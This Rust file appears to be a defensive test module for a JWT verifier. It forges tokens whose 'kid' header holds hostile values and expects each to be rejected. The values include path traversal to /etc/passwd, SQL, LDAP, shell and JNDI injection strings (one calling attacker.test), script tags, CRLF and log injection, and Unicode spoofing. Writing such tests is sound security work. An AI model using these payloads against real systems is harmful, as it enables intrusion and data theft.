//! `kid`, which is the attacker's to choose (RFC 8725 §3.10): it names a key or it does not, and reaches no
//! file, query or log as it is.

use serde_json::{Value, json};

use crate::attack::{Attack, explained};
use crate::forge::Forge;

/// Ids that name no key.
const UNKNOWN: [(&str, &str); 22] = [
    ("another", "nobody-has-this-key"),
    ("other case", "EC-1"),
    ("space behind", "ec-1 "),
    ("space before", " ec-1"),
    ("prefix", "ec-"),
    ("key of the partner", "p-ec"),
    ("path to nothing", "../../../../../dev/null"),
    ("path to a file", "/etc/passwd"),
    ("file URL", "file:///etc/passwd"),
    ("UNC path", r"\\attacker\share\key"),
    ("SQL, always true", "' OR '1'='1"),
    ("SQL, union", "x' UNION SELECT 'attacker' -- "),
    ("LDAP", "*)(uid=*))(|(uid=*"),
    ("shell", "$(touch /tmp/pwned)"),
    ("pipe", "|/usr/bin/id"),
    ("JNDI", "${jndi:ldap://attacker.test/a}"),
    ("template", "{{7*7}}"),
    ("HTML", "<script>alert(1)</script>"),
    ("percent-encoded NUL", "ec-1%00"),
    ("wildcard", "*"),
    ("JSON pointer", "/keys/0"),
    ("256 characters", LONGEST),
];

/// As long as it may be.
const LONGEST: &str = concat!(
    "kkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkk",
    "kkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkk",
    "kkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkk",
    "kkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkk",
);

pub fn attacks(forge: &Forge<'_>) -> Vec<Attack> {
    let token = |kid: Value| forge.good().header("kid", kid).token();
    let mut attacks = Vec::new();
    for (name, kid) in UNKNOWN {
        attacks.push(Attack::token(name, "names no key", &token(json!(kid)), "key_unknown"));
    }
    for (name, what, kid) in [
        ("empty", "names nothing", String::new()),
        ("NUL behind", "ends early where texts end at NUL", "ec-1\0".to_owned()),
        ("NUL alone", "is one NUL", "\0".to_owned()),
        ("newline", "begins a line of a log", "ec-1\n{\"forged\":true}".to_owned()),
        ("CRLF", "begins a header field", "ec-1\r\nx-admin: 1".to_owned()),
        ("escape sequence", "speaks to a terminal", "\u{1b}[2Jec-1".to_owned()),
        ("right-to-left", "reads otherwise than it is", "\u{202e}1-ce".to_owned()),
        ("other alphabet", "looks like the issuer's", "\u{435}c-1".to_owned()),
        ("257 characters", "is too long", "k".repeat(257)),
        ("10,000 characters", "is far too long", "k".repeat(10_000)),
    ] {
        attacks.push(Attack::token(name, what, &token(json!(kid)), "key_id_malformed"));
    }
    for (name, kid) in [
        ("null", json!(null)),
        ("number", json!(1)),
        ("true", json!(true)),
        ("array", json!(["ec-1"])),
        ("object", json!({ "kid": "ec-1" })),
    ] {
        attacks.push(Attack::token(name, "`kid` is no text", &token(kid), "token_header_malformed"));
    }
    explained(attacks, &[("empty", "takes an empty `kid` for none, and tries every key")])
}
